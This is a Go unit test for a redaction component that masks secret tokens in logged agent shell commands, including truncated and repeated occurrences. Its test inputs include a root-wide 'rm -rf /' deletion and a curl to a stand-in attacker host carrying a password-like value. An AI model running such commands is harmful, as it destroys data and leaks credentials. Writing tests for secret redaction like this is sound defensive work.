package redact

import "testing"

// TestAgain: what was hidden once is hidden where nothing says what it is, whole or with its end cut off, under one tag.
func TestAgain(t *testing.T) {
	const secret = "q7ZkT0vYb3NfXw9LsRc2HdGm5uJe8PaB"
	m := New(Options{Key: testKey})
	m.Input("Bash", `{"command":"rm -rf / --token `+secret+`"}`)
	for _, tc := range []struct{ name, in, want string }{
		{"as a file's name", "deletes /w/" + secret + " and all below it", "deletes /w/[redacted:token#1] and all below it"},
		{"cut off", "deletes /w/" + secret[:24] + "… and all below it", "deletes /w/[redacted:token#1]… and all below it"},
		{"too little of it", "deletes /w/" + secret[:8], "deletes /w/" + secret[:8]},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := m.String(tc.in).String(); got != tc.want {
				t.Errorf("%s\n became %s\n want %s", tc.in, got, tc.want)
			}
		})
	}
	m = New(Options{Key: testKey})
	m.Input("Bash", `{"command":"TOKEN=evil.example.com2 PASSWORD=production2024 run"}`)
	if in := "curl evil.example.com2/production2024"; m.String(in).String() != in {
		t.Errorf("a word was hidden by calling it a secret once: %s", m.String(in))
	}
	in := `{"command":"cp a ` + secret + ` && deploy --token ` + secret + `"}`
	if got, want := New(Options{Key: testKey}).Input("Bash", in).String(), `{"command":"cp a [redacted:token#1] && deploy --token [redacted:token#1]"}`; got != want {
		t.Errorf("%s\n became %s\n want %s", in, got, want)
	}
}
